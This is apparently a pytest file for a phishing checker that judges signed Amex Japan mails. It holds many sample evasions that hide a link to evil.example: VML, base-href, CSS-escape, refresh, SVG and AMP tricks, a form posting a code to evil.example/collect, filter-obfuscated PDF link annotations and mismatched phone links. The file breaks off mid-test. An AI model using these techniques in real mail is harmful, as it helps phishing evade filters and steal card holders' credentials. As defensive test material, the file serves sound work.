"""Links a reader can tap, scan or open that the check did not read as the app showing them does
(the attacker's reproductions of Nov 2026: a PDF's escaped /URI, Outlook's VML buttons, Gmail's AMP
part, `<base href>` under an in-page link, CSS `image-set()` and escapes, a refresh without `url=`,
budgets that ran out, a phone link that dials another number than it shows). Each starts from a
mail the issuer's own key signed, so only the link stands between it and genuine; the same mail
with official links stays genuine.
"""

from __future__ import annotations

import base64
import binascii
import email
import email.policy
import zlib

import pytest

from cardguard.directory import load_directory
from cardguard.verify import CheckOptions, check_message
from cardguard.verify.htmltext import MAX_NESTED_READS
from cardguard.verify.links import MAX_HOPS, MAX_LINKS
from cardguard.verify.message import _PDF_MAX_SLOW_STEPS, _PDF_MAX_URIS, MAX_PDF_STREAM_BYTES
from mailkit import SAFEKEY_BODY, address, dns, key, message, sign  # noqa: F401 - fixtures

ALIAS = "amex.7f3k@icloud.com"
OFFICIAL = "https://www.americanexpress.com/ja-jp/account/login"
EVIL = "https://evil.example/login"


@pytest.fixture(scope="module")
def directory():
    return load_directory(with_user_files=False)


def check(raw: bytes, address, directory):
    return check_message(raw, directory, CheckOptions(resolver=address, dns_timeout=5, aliases=[ALIAS]))


def codes(verdict) -> set[str]:
    return {f.code for f in verdict.findings}


def signed(key, msg: email.message.EmailMessage | None = None, **kw) -> bytes:
    raw = msg.as_bytes() if msg is not None else message(**kw)
    return sign(raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"), key, "welcome.americanexpress.com")


def shows_evil(verdict) -> bool:
    """The holder is shown the link to evil.example among the mail's links, never as official."""
    return any(link.registered_domain == "evil.example" and not link.official for link in verdict.links)


def assert_hidden_link_found(verdict, html=""):
    assert verdict.authentication.authenticated_domain  # only the link stands between it and genuine
    assert verdict.verdict != "genuine", html
    assert shows_evil(verdict), (html, [link.url for link in verdict.links])


OFFICIAL_RICH = (
    '<base href="https://www.americanexpress.com/ja-jp/"><a href="#top">上へ</a><a href="">このページ</a>'
    f'<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{OFFICIAL}">'
    '<center>ログイン</center></v:roundrect><![endif]-->'
    "<div style=\"background-image:image-set('https://www.americanexpress.com/qr.png' 1x)\">QR</div>"
    '<div style="background:\\75 rl(https://www.americanexpress.com/bg.png)">背景</div>'
    f'<meta http-equiv="refresh" content="30; {OFFICIAL}">'
    '<p>お問い合わせ：<a href="tel:+81-120-020120">0120-020120</a>、'
    '<a href="tel:0120020120">０１２０－０２０－１２０</a></p>')


def test_official_buttons_images_refresh_and_matching_phone_links_stay_genuine(key, address, directory):
    verdict = check(signed(key, html=f"<p>SafeKey認証コード：482913</p>{OFFICIAL_RICH}"), address, directory)
    assert verdict.verdict == "genuine", verdict.as_json("en")["findings"]
    assert "link.tel_mismatch" not in codes(verdict)
    # Each reading above was made: the VML button, the image-set, the escaped url(), the refresh.
    urls = {link.url for link in verdict.links}
    assert {OFFICIAL, "https://www.americanexpress.com/qr.png", "https://www.americanexpress.com/bg.png"} <= urls


@pytest.mark.parametrize("html", [
    # d. Outlook's VML buttons, and other elements whose href a reader follows
    f'<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{EVIL}" arcsize="10%">'
    '<center>本人確認はこちら</center></v:roundrect><![endif]-->',
    f'<!--[if mso]><v:rect href="{EVIL}" style="width:240px"><v:fill type="tile"/></v:rect><![endif]-->',
    f'<!--[if gte mso 9]><v:shape href="{EVIL}" coordsize="21600,21600"></v:shape><![endif]-->',
    f'<math><mi href="{EVIL}">ログイン</mi></math>',
    f'<a href="{OFFICIAL}" ping="https://evil.example/track">ログイン</a>',
    # h. an in-page or empty link under a foreign <base href> goes to the base
    f'<base href="https://evil.example/verify"><a href="#login">確認</a><a href="{OFFICIAL}">Amex</a>',
    '<base href="https://evil.example/verify"><a href="">確認</a>',
    '<base href="https://evil.example/verify"><a href>確認</a>',
    # i. CSS read as a browser tokenizes it
    "<div style=\"background-image:image-set('https://evil.example/qr.png' 1x)\">QR</div>",
    "<div style=\"background-image:-webkit-image-set(&quot;https://evil.example/qr.png&quot; 2x)\">QR</div>",
    '<div style="background-image:image-set(url(https://evil.example/qr.png) 1x)">QR</div>',
    '<div style="background:\\75 rl(https://evil.example/qr.png)">QR</div>',
    '<div style="background:\\000075\\72\\6c(https://evil.example/qr.png)">QR</div>',
    '<div style="background:u\\rl(https://evil.example/qr.png)">QR</div>',
    "<style>.qr{background:\\75 rl('https://evil.example/qr.png')}</style><p class=qr>QR</p>",
    '<style>@import "https://evil.example/a.css";</style>',
    "<style>@\\69mport 'https://evil.example/a.css';</style>",
    "<style>.qr{background-image:image-set('https://evil.example/qr.png' 1x)}</style>",
    '<div style="background:url(/**/https://evil.example/qr.png)">QR</div>',
    # j. a refresh as the HTML standard parses it
    '<meta http-equiv="refresh" content="0; https://evil.example/login">',
    '<meta http-equiv="refresh" content="0,https://evil.example/login">',
    '<meta http-equiv="Refresh" content="1 ; URL = \'https://evil.example/login\'">',
    '<meta http-equiv="refresh" content="0.5;url=https://evil.example/login">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; login">',
    # a frame's own page, a <noscript> inside an Outlook block, a preloaded image set
    f'<iframe srcdoc="&lt;a href=&quot;{EVIL}&quot;&gt;ログイン&lt;/a&gt;"></iframe>',
    f'<!--[if mso]><noscript><a href="{EVIL}">ログイン</a></noscript><![endif]-->',
    '<link rel="preload" as="image" imagesrcset="https://evil.example/qr.png 1x">',
    # SVG animation that sets a link's address once it runs
    f'<svg><a href="{OFFICIAL}"><set attributeName="href" to="{EVIL}"/><text>ログイン</text></a></svg>',
    f'<svg><a href="{OFFICIAL}"><animate attributeName="xlink:href" values="{OFFICIAL};{EVIL}"/>'
    '<text>ログイン</text></a></svg>',
])
def test_a_link_a_reader_can_tap_or_scan_keeps_a_signed_mail_from_genuine(key, address, directory, html):
    verdict = check(signed(key, html=f"<p>SafeKey認証コード：482913</p>{html}"), address, directory)
    assert_hidden_link_found(verdict, html)


def test_gmail_amp_part_is_read_as_html(key, address, directory):
    msg = email.message_from_bytes(message(), policy=email.policy.default)
    amp = ('<!doctype html><html ⚡4email><head><meta charset="utf-8"></head><body><p>認証コード：482913</p>'
           '<a href="&#x68;ttps://evil.example/login">本人確認はこちら</a></body></html>')
    msg.add_alternative(amp, subtype="x-amp-html")
    msg.add_alternative(f'<p>認証コード：482913</p><a href="{OFFICIAL}">ログイン</a>', subtype="html")
    verdict = check(signed(key, msg), address, directory)
    assert_hidden_link_found(verdict)
    assert any(link.url == EVIL and link.kind == "anchor" for link in verdict.links)  # the entity decoded


@pytest.mark.parametrize("amp", [
    '<a href="&#x68;ttps://evil.example/login">本人確認はこちら</a>',
    '<amp-img src="https://evil.example/qr.png" width="200" height="200" alt="QR"></amp-img>',
    '<form method="post" action-xhr="https://evil.example/collect"><input name="code"></form>',
    f'<a href="{OFFICIAL}" [href]="state.ok ? \'{OFFICIAL}\' : \'{EVIL}\'">ログイン</a>',
    '<amp-list src="https://evil.example/data.json" layout="fixed-height" height="50"></amp-list>',
])
def test_what_an_amp_part_links_to_counts(key, address, directory, amp):
    msg = email.message_from_bytes(message(), policy=email.policy.default)
    msg.add_alternative(f'<!doctype html><html ⚡4email><body><p>認証コード：482913</p>{amp}</body></html>',
                        subtype="x-amp-html")
    verdict = check(signed(key, msg), address, directory)
    assert_hidden_link_found(verdict, amp)


# What an AMP part must load (AMP for Email Format, amp.dev: the runtime v0.js in the head, each
# component from cdn.ampproject.org/v0/amp-<name>-<version>.js), as its "Hello World Email" example writes it.
AMP_HEAD = ('<head><meta charset="utf-8"><script async src="https://cdn.ampproject.org/v0.js"></script>'
            '<script async custom-element="amp-carousel" src="https://cdn.ampproject.org/v0/amp-carousel-0.1.js"></script>'
            '<script async custom-template="amp-mustache" src="https://cdn.ampproject.org/v0/amp-mustache-0.2.js"></script>'
            '<style amp4email-boilerplate>body{visibility:hidden}</style></head>')


def amp_mail(key, head: str, body: str = "", html_part: str | None = None) -> bytes:
    msg = email.message_from_bytes(message(), policy=email.policy.default)
    msg.add_alternative(f'<!doctype html><html ⚡4email>{head}<body><p>認証コード：482913</p>'
                        f'<a href="{OFFICIAL}">ログイン</a>{body}</body></html>', subtype="x-amp-html")
    if html_part is not None:
        msg.add_alternative(html_part, subtype="html")
    return signed(key, msg)


def test_an_amp_part_loading_its_runtime_stays_genuine(key, address, directory):
    verdict = check(amp_mail(key, AMP_HEAD), address, directory)
    assert verdict.verdict == "genuine", verdict.as_json("en")["findings"]
    assert not any("ampproject" in link.url for link in verdict.links)
    assert not {"link.foreign", "content.html_script"} & codes(verdict)


@pytest.mark.parametrize("head, body", [
    # Another host, or the runtime's address with more to it: a remote load like any other.
    ('<head><script async src="https://cdn.ampproject.org.evil.example/v0.js"></script></head>', ""),
    ('<head><script async src="https://evil.example/v0.js"></script></head>', ""),
    ('<head><script async custom-element="amp-bind" src="https://evil.example/v0/amp-bind-0.1.js"></script></head>', ""),
    ('<head><script async src="https://cdn.ampproject.org/v0.js?u=https://evil.example/login"></script></head>', ""),
    ('<head><script async src="https://cdn.ampproject.org/v0/amp-bind-0.1.js"></script></head>', ""),  # no custom-element
    # The runtime's address anywhere but a script's src: what the holder taps or sees loaded.
    (AMP_HEAD, '<a href="https://cdn.ampproject.org/v0.js">詳細</a>'),
    (AMP_HEAD, '<amp-img src="https://cdn.ampproject.org/v0.js" width="1" height="1"></amp-img>'),
])
def test_amp_runtime_lookalikes_are_still_links(key, address, directory, head, body):
    verdict = check(amp_mail(key, head, body), address, directory)
    assert verdict.authentication.authenticated_domain
    assert verdict.verdict != "genuine" and "link.not_confirmed" in verdict.decisive
    assert any(not link.official and ("ampproject" in link.url or "evil.example" in link.url) for link in verdict.links)


def test_the_amp_runtime_in_an_html_part_is_a_remote_load(key, address, directory):
    html = f'<html>{AMP_HEAD}<body><p>認証コード：482913</p><a href="{OFFICIAL}">ログイン</a></body></html>'
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict == "suspicious" and "link.foreign" in verdict.decisive
    assert any(link.url == "https://cdn.ampproject.org/v0.js" for link in verdict.links)


def test_text_beyond_what_is_read_is_never_every_link_confirmed(key, address, directory):
    from cardguard.verify.message import MAX_TEXT_CHARS

    body = "認証コード：482913\n" + ("ご利用ありがとうございます。\n" * (MAX_TEXT_CHARS // 14)) + EVIL + "\n"
    verdict = check(signed(key, body=body), address, directory)
    assert verdict.verdict == "suspicious"
    assert {"link.text_cut", "link.not_confirmed"} <= verdict.decisive


@pytest.mark.parametrize("subtype, filename", [("plain", "notes.txt"), ("calendar", "invite.ics")])
def test_a_text_attachment_longer_than_what_is_read_is_never_every_link_confirmed(key, address, directory,
                                                                                  subtype, filename):
    # Found by an attacker: the cut of a text attachment had moved under another branch, so a 2 MB one
    # was read whole (a signed mail with one became genuine, and a long one took minutes).
    from cardguard.verify.message import MAX_TEXT_CHARS

    msg = email.message_from_bytes(message(), policy=email.policy.default)
    msg.add_attachment("x" * (MAX_TEXT_CHARS + 1000) + "\n" + EVIL + "\n", subtype=subtype, filename=filename)
    verdict = check(signed(key, msg), address, directory)
    assert verdict.verdict == "suspicious"
    assert {"link.attachment_unreadable", "link.not_confirmed"} <= verdict.decisive


# --- a. PDF link annotations, read as a PDF reader reads them -----------------------------------

def pdf(annotation: bytes, stream_filter: bytes | None = None, encode=lambda data: data) -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R] >>"]
    if stream_filter is None:
        objects.append(annotation)
    else:
        body = encode(b"4 0 " + annotation)
        objects.append(b"<< /Type /ObjStm /N 1 /First 4 /Filter " + stream_filter + b" /Length "
                       + str(len(body)).encode() + b" >>\nstream\n" + body + b"\nendstream")
    out = b"%PDF-1.5\n"
    for number, body in enumerate(objects, 1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return out + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def lzw(data: bytes, early: int = 1) -> bytes:
    """PDF's LZW (ISO 32000-1 §7.4.4.2): a clear code, 9- to 12-bit codes that grow when the decoder's
    next code (one behind the encoder's) reaches a power of two, less ``early``; the end code. No clear
    code when the table is full, which a reader must then keep reading at 12 bits."""
    table, codes, widths, width, word, following = {bytes((n,)): n for n in range(256)}, [256], [9], 9, b"", 258
    for byte in data:
        if word + bytes((byte,)) in table:
            word += bytes((byte,))
            continue
        codes.append(table[word])
        widths.append(width)
        if following < 4096:
            table[word + bytes((byte,))] = following
            following += 1
            if following - 1 + early >= 1 << width and width < 12:
                width += 1
        word = bytes((byte,))
    codes += [table[word], 257]
    widths += [width, width]
    bits = "".join(format(code, f"0{size}b") for code, size in zip(codes, widths))
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def run_length(data: bytes) -> bytes:
    """RunLengthDecode's encoding (ISO 32000-1 §7.4.5): runs of one byte repeated, literal runs otherwise."""
    out, position = bytearray(), 0
    while position < len(data):
        same = 1
        while position + same < len(data) and same < 128 and data[position + same] == data[position]:
            same += 1
        if same > 1:
            out += bytes((257 - same, data[position]))
        else:
            out += bytes((0, data[position]))
        position += same
    return bytes(out) + b"\x80"


def png_rows(data: bytes, columns: int, pixel: int = 1) -> bytes:
    """``data`` in rows of ``columns`` pixels of ``pixel`` bytes, each row under the next PNG predictor
    in turn (None, Sub, Up, Average, Paeth), as PNG writes them."""
    width = columns * pixel
    data += b" " * (-len(data) % width)
    out, above = bytearray(), bytes(width)
    for number, start in enumerate(range(0, len(data), width)):
        row, kind = data[start:start + width], number % 5
        encoded = bytearray()
        for i, value in enumerate(row):
            left, corner = (row[i - pixel], above[i - pixel]) if i >= pixel else (0, 0)
            guess = left + above[i] - corner
            paeth = min((abs(guess - left), 0, left), (abs(guess - above[i]), 1, above[i]),
                        (abs(guess - corner), 2, corner))[2]
            base = (0, left, above[i], (left + above[i]) // 2, paeth)[kind]
            encoded.append((value - base) & 0xFF)
        out += bytes((kind,)) + encoded
        above = row
    return bytes(out)


NOISE = bytes((n * 7919 + n // 251) % 256 for n in range(40_000))  # no repeats to speak of: fills the LZW table


def link(uri: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI " + uri + b" >> >>"


def with_pdf(key, data: bytes) -> bytes:
    msg = email.message_from_bytes(message(), policy=email.policy.default)
    msg.add_attachment(data, maintype="application", subtype="pdf", filename="明細.pdf")
    return signed(key, msg)


@pytest.mark.parametrize("data", [
    pdf(link(rb"(https://evil.example\057.americanexpress.com/login)")),  # \057 is "/"
    pdf(link(rb"(https://evil.example\057\056americanexpress.com/login)")),
    pdf(link(rb"(https://evil.exa\
mple/login)")),  # a backslash at the line end continues the line
    pdf(link(rb"(https://evil.example/(login))")),  # balanced parentheses need no escape
    pdf(link(rb"(https:\/\/evil.example/login)")),  # an unknown escape is the character itself
    pdf(link(b"<" + binascii.hexlify(b"https://evil.example/login") + b">")),
    pdf(link(b"<" + binascii.hexlify(b"https://evil.example/login").upper() + b"3>")),  # odd: padded with 0
    pdf(link(b"<FEFF" + binascii.hexlify("https://evil.example/login".encode("utf-16-be")) + b">")),
    pdf(link(rb"(https://evil.example/login)").replace(b"/URI (", b"/U#52I (")),  # a name with #xx escapes
    pdf(link(rb"(https://evil.example/login)"), b"/ASCIIHexDecode", lambda d: binascii.hexlify(d) + b">"),
    pdf(link(rb"(https://evil.example/login)"), b"/ASCII85Decode", lambda d: base64.a85encode(d) + b"~>"),
    pdf(link(rb"(https://evil.example/login)"), b"[/ASCII85Decode /FlateDecode]",
        lambda d: base64.a85encode(zlib.compress(d)) + b"~>"),
    # LZW (both code-size changes), run-length, and PNG predictors (ISO 32000-1 §7.4.4, §7.4.5)
    pdf(link(rb"(https://evil.example/login)"), b"/LZWDecode", lzw),
    pdf(link(rb"(https://evil.example/login)"), b"/LZW /DecodeParms << /EarlyChange 0 >>", lambda d: lzw(d, early=0)),
    # a table filled to its 4096 codes with no clear code: readers keep reading 12-bit codes
    pdf(link(rb"(https://evil.example/login)"), b"/LZWDecode", lambda d: lzw(NOISE + d)),
    pdf(link(rb"(https://evil.example/login)"), b"/RunLengthDecode", run_length),
    pdf(link(rb"(https://evil.example/login)"), b"/RL", lambda d: run_length(d) + b"\x80garbage after the end"),
    pdf(link(rb"(https://evil.example/login)"), b"/FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>",
        lambda d: zlib.compress(png_rows(d, 7))),
    pdf(link(rb"(https://evil.example/login)"),
        b"/FlateDecode /DecodeParms << /Predictor 15 /Colors 3 /BitsPerComponent 8 /Columns 5 >>",
        lambda d: zlib.compress(png_rows(d, 5, pixel=3))),
    pdf(link(rb"(https://evil.example/login)"), b"[/ASCII85Decode /LZWDecode] /DecodeParms [null << /Predictor 10 /Columns 3 >>]",
        lambda d: base64.a85encode(lzw(png_rows(d, 3))) + b"~>"),
])
def test_a_pdf_link_is_read_as_a_pdf_reader_reads_it(key, address, directory, data):
    verdict = check(with_pdf(key, data), address, directory)
    assert_hidden_link_found(verdict)
    assert any(link.kind == "attachment" and link.host.endswith("evil.example") for link in verdict.links)


@pytest.mark.parametrize("data", [
    pdf(link(rb"(https://evil.example/login)"), b"/FlateDecode", lambda d: b"not zlib at all"),
    # LZW with a code no table holds yet (300 right after a clear), as a reader fails on it
    pdf(link(rb"(https://evil.example/login)"), b"/LZWDecode", lambda d: bytes.fromhex("804b00")),
    # a predictor no reader here undoes (TIFF 2), an unknown PNG row predictor (5), parameters elsewhere
    pdf(link(rb"(https://evil.example/login)"), b"/FlateDecode /DecodeParms << /Predictor 2 /Columns 4 >>",
        zlib.compress),
    pdf(link(rb"(https://evil.example/login)"), b"/FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
        lambda d: zlib.compress(b"".join(b"\x05" + d[i:i + 4].ljust(4) for i in range(0, len(d), 4)))),
    pdf(link(rb"(https://evil.example/login)"), b"/FlateDecode /DecodeParms 9 0 R", zlib.compress),
    pdf(link(rb"(https://evil.example/login)"), b"/FlateDecode /DecodeParms << /Predictor 12 /Columns 9 0 R >>",
        zlib.compress),
    # more output than is read: the link after MAX_PDF_STREAM_BYTES of spaces
    pdf(link(rb"(https://evil.example/login)"), b"/FlateDecode", lambda d: zlib.compress(b" " * MAX_PDF_STREAM_BYTES + d)),
    pdf(link(b"5 0 R")),  # the address is written in another object
    pdf(b"<< /Type /Annot /Subtype /Link /A << /S /JavaScript /JS (app.launchURL('https://evil.example')) >> >>"),
    pdf(link(rb"(https://www.americanexpress.com/jp/)")).replace(b"trailer\n<<", b"trailer\n<< /Encrypt 9 0 R"),
    # more link annotations than are read (each official), and escaped strings past what is decoded
    pdf(b"[" + b" ".join([link(rb"(https://www.americanexpress.com/jp/)")] * (_PDF_MAX_URIS + 1)) + b"]"),
    pdf(b"[" + b" ".join([link(b"(https://www.americanexpress.com/jp/" + b"\\(" * 2000 + b")")] * 40) + b"]"),
])
def test_a_pdf_part_that_cannot_be_read_is_never_confirmed(key, address, directory, data):
    verdict = check(with_pdf(key, data), address, directory)
    assert verdict.authentication.authenticated_domain
    assert verdict.verdict == "suspicious"
    assert {"link.attachment_unreadable", "link.not_confirmed"} <= verdict.decisive
    unread = next(f for f in verdict.findings if f.code == "link.attachment_unreadable")
    assert "明細.pdf" in unread.message("en") and "明細.pdf" in unread.message("ja")


def test_a_pdf_of_endless_lzw_clear_codes_stops_at_the_budget_and_is_not_confirmed(key, address, directory):
    # Each 9-bit clear code makes no output, so no output bound stops it: the mail's budget of steps does.
    clears = int("100000000" * (_PDF_MAX_SLOW_STEPS + 8), 2).to_bytes((_PDF_MAX_SLOW_STEPS + 8) * 9 // 8, "big")
    data = pdf(link(rb"(https://www.americanexpress.com/jp/)"), b"/LZWDecode", lambda d: clears + lzw(d))
    verdict = check(with_pdf(key, data), address, directory)
    assert verdict.verdict == "suspicious" and {"link.attachment_unreadable", "link.not_confirmed"} <= verdict.decisive


def test_a_pdf_with_only_official_links_stays_genuine(key, address, directory):
    data = pdf(link(rb"(https://www.americanexpress.com/ja-jp/\(account\)/login)"), b"/FlateDecode", zlib.compress)
    # An image's pixels (a JPEG, and one with PNG predictors, as a real statement's logo) hold no link.
    data = data.replace(b"trailer", b"5 0 obj\n<< /Subtype /Image /DecodeParms << /Predictor 15 /Columns 9 >> "
                        b"/Filter /DCTDecode /Length 4 >>\nstream\n\xff\xd8\xff\xe0\nendstream\nendobj\n"
                        b"6 0 obj\n<< /Subtype /Image /Filter /LZWDecode /Length 2 >>\nstream\n\x80\x0b\nendstream\n"
                        b"endobj\ntrailer")
    # A font bigger than is decoded (a CJK font can be): only objects hold annotations, so the part of
    # it left unread hides none.
    font = zlib.compress(bytes(MAX_PDF_STREAM_BYTES + 10))
    data = data.replace(b"trailer", b"7 0 obj\n<< /Length1 %d /Filter /FlateDecode /Length %d >>\nstream\n"
                        % (MAX_PDF_STREAM_BYTES + 10, len(font)) + font + b"\nendstream\nendobj\ntrailer")
    verdict = check(with_pdf(key, data), address, directory)
    assert verdict.verdict == "genuine", verdict.as_json("en")["findings"]


# --- b, c. budgets: what was left unread may hold the link ---------------------------------------

def test_more_links_than_are_read_is_never_every_link_confirmed(key, address, directory):
    hidden = "".join(f'<a href="https://www.americanexpress.com/{n}">.</a>' for n in range(MAX_LINKS))
    verdict = check(signed(key, html=f"<p>SafeKey認証コード：482913</p>{hidden}<a href=\"{EVIL}\">確認</a>"),
                    address, directory)
    assert verdict.verdict == "suspicious"
    assert {"link.too_many", "link.not_confirmed"} <= verdict.decisive
    said = next(f for f in verdict.findings if f.code == "link.too_many")
    found = dict(said.values)["count"]
    assert found > MAX_LINKS and f"{found} links" in said.message("en") and str(MAX_LINKS) in said.message("ja")


def test_more_outlook_blocks_than_are_read_is_never_every_link_confirmed(key, address, directory):
    blocks = '<!--[if mso]><a href="https://www.americanexpress.com/">.</a><![endif]-->' * MAX_NESTED_READS
    html = f'<p>SafeKey認証コード：482913</p><a href="{OFFICIAL}">ログイン</a>{blocks}<!--[if mso]><a href="{EVIL}">確認</a><![endif]-->'
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict == "suspicious"
    assert {"link.blocks_unread", "link.not_confirmed"} <= verdict.decisive
    assert "1 Outlook" in next(f for f in verdict.findings if f.code == "link.blocks_unread").message("en")
    # The same number of blocks, all read, is genuine: the budget itself is no reason.
    fits = f'<p>SafeKey認証コード：482913</p><a href="{OFFICIAL}">ログイン</a>{blocks}'
    assert check(signed(key, html=fits), address, directory).verdict == "genuine"


def test_a_redirect_chain_longer_than_is_followed_is_unresolved(key, address, directory):
    href = "https://evil.example/login"
    for _ in range(MAX_HOPS):
        href = "https://www.americanexpress.com/r?u=" + href
    verdict = check(signed(key, html=f'<p>SafeKey</p><a href="{href}">ログイン</a>'), address, directory)
    assert verdict.verdict == "suspicious" and "link.unresolved" in verdict.decisive
    lured = next(link for link in verdict.links if link.url == href)
    assert not lured.official and not lured.resolved


# --- k. a phone link that dials another number than it shows -------------------------------------

@pytest.mark.parametrize("href, shown", [
    ("tel:+81-50-0000-0000", "0120-020120"),
    ("tel:0500000000", "０１２０－０２０－１２０"),
    ("callto:+81500000000", "お電話 0120-020-120 まで"),
    ("tel:%2B81-50-0000-0000", "+81 120 020120"),
])
def test_a_phone_link_that_dials_another_number_is_phishing(key, address, directory, href, shown):
    html = f'<p>SafeKey認証コード：482913</p><p>お問い合わせ：<a href="{href}">{shown}</a></p><a href="{OFFICIAL}">Amex</a>'
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict == "phishing" and "link.tel_mismatch" in verdict.decisive
    said = next(f for f in verdict.findings if f.code == "link.tel_mismatch")
    assert "50" in said.message("en") and "0120" in said.message("ja").replace("０", "0").replace("１", "1")


# A phone link may dial another line of the same issuer than it shows (the directory's numbers:
# amex-jp.toml); dialled the way a phone dials it, +81 is the national 0 and width does not count.
@pytest.mark.parametrize("href, shown", [
    ("tel:+81-3-4540-6869", "0120-020120"),
    ("tel:+81345406869", "０１２０－０２０－１２０"),
    ("tel:+81120010120", "0120-020120"),
    ("tel:%2B81%20120%20376107", "お電話 0120-010-120 まで"),
    ("tel:+44-20-8840-6462", "44-20-8840-6462"),  # printed as the directory prints its overseas line
    ("tel:010-65-6535-1561", "+65 6535 1561"),  # 010: Japan's international prefix
])
def test_a_phone_link_that_dials_another_line_of_the_same_issuer_is_fine(key, address, directory, href, shown):
    html = f'<p>SafeKey認証コード：482913</p><p>お問い合わせ：<a href="{href}">{shown}</a></p><a href="{OFFICIAL}">Amex</a>'
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict == "genuine", verdict.as_json("en")["findings"]
    assert "link.tel_mismatch" not in codes(verdict)


def test_the_number_the_holder_wrote_down_for_the_issuer_is_one_of_its_lines(key, address, profile):
    # The holder's own overrides (test_overrides.py's number "printed on the back of my card").
    (profile / "config" / "overrides.toml").write_text(
        '[[line]]\ncard = "amex"\npurpose = "fraud"\nnumber = "0120-111111"\n'
        'source = "printed on the back of my card"\nas_of = 2026-11-01\n', encoding="utf-8")
    html = (f'<p>SafeKey認証コード：482913</p><p>お問い合わせ：<a href="tel:+81-120-111111">0120-020120</a></p>'
            f'<a href="{OFFICIAL}">Amex</a>')
    verdict = check(signed(key, html=html), address, load_directory())
    assert verdict.verdict == "genuine", verdict.as_json("en")["findings"]
    # Without the holder's word for it, nobody publishes that number.
    verdict = check(signed(key, html=html), address, load_directory(with_user_files=False))
    assert verdict.verdict == "phishing" and "link.tel_mismatch" in verdict.decisive


@pytest.mark.parametrize("href, shown", [
    ("tel:+81-50-0000-0000", "03-4540-6869"),  # the issuer's number shown, nobody's dialled
    # France's line as France prints it: from Japan it dials a Japanese 0800 number nobody publishes.
    ("tel:0800-90-86-29", "0120-020120"),
    ("tel:+81-3-4540-6869", "03-0000-0000"),  # the issuer's line dialled, a stranger's shown
])
def test_a_phone_link_between_an_issuer_number_and_a_stranger_stays_phishing(key, address, directory, href, shown):
    html = f'<p>SafeKey認証コード：482913</p><p>お問い合わせ：<a href="{href}">{shown}</a></p><a href="{OFFICIAL}">Amex</a>'
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict == "phishing" and "link.tel_mismatch" in verdict.decisive
    said = next(f for f in verdict.findings if f.code == "link.tel_mismatch").message("en")
    assert shown in said and href.removeprefix("tel:") in said


@pytest.mark.parametrize("href, shown", [
    ("tel:+81-120-020120", "0120-020120"),
    ("tel:+81(0)120020120", "０１２０－０２０－１２０"),
    ("tel:0120-020-120", "電話する"),  # no number shown: nothing to compare
    ("tel:0120020120;ext=12", "0120 020 120"),
])
def test_a_phone_link_that_dials_the_number_it_shows_is_fine(key, address, directory, href, shown):
    html = f'<p>SafeKey認証コード：482913</p><p>お問い合わせ：<a href="{href}">{shown}</a></p><a href="{OFFICIAL}">Amex</a>'
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict == "genuine", verdict.as_json("en")["findings"]


@pytest.mark.parametrize("anchor", [
    '<a href="#" style="display:none">https://evil.example/login</a>', '<a href="">https://evil.example/login</a>',
    '<a href="mailto:x@americanexpress.com">https://evil.example/login</a>',
    '<map><area alt="https://evil.example/login" href="#"></map>',
])
def test_an_address_in_a_links_text_never_hides_the_same_address_written_in_the_text(key, address, directory, anchor):
    # Found by an attacker: dropping text addresses that an anchor's text also held hid this one.
    html = f'{anchor}<p>https://evil.example/login</p><p><a href="https://www.americanexpress.com/ja-jp/">Amex</a></p>'
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict != "genuine" and shows_evil(verdict)


@pytest.mark.parametrize("shown, worst", [
    ("0120‐020‐120", "phishing"), ("0120−020−120", "phishing"), ("0120ー020ー120", "phishing"),
    ("0120–020–120", "phishing"), ("0120/020/120", "phishing"),
    ("〇一二〇・〇二〇・一二〇", "suspicious"), ("O12O-O2O12O", "suspicious"),
    ('<img src="cid:x" alt="0120-020120">', "suspicious"),
    ('0120-020120 <span style="display:none">/ 050-0000-0000</span>', "phishing"),
])
@pytest.mark.parametrize("scheme", ["tel:", "sms:"])
def test_a_phone_link_to_a_number_the_issuer_does_not_publish_is_never_genuine(key, address, directory, shown,
                                                                               worst, scheme):
    # Found by an attacker: a number shown with other dashes, in kanji or letters, as an image, or next to
    # hidden digits was not compared with the number dialled, and the mail stayed genuine.
    html = (f'<p><a href="{scheme}+81-50-0000-0000">{shown}</a></p>'
            '<p><a href="https://www.americanexpress.com/ja-jp/">Amex</a></p>')
    verdict = check(signed(key, html=html), address, directory)
    assert verdict.verdict == worst, codes(verdict)  # shown and dialled differ: phishing; else not confirmed
    assert {"link.tel_mismatch", "link.phone_unconfirmed"} & codes(verdict)


def pdf_with_stream(dictionary: bytes, annotation: bytes) -> bytes:
    body = zlib.compress(b"4 0 " + annotation)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R] >>",
               b"<< " + dictionary + b" /Length " + str(len(body)).encode() + b" >>\nstream\n" + body + b"\nendstream"]
    out = b"%PDF-1.5\n"
    for number, item in enumerate(objects, 1):
        out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
    return out + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


@pytest.mark.parametrize("dictionary", [
    b"/Type /ObjStm /N 1 /First 4 /Filter /#46lateDecode",      # a name written with #xx escapes
    b"/Type /ObjStm /N 1 /First 4 /#46ilter /FlateDecode",
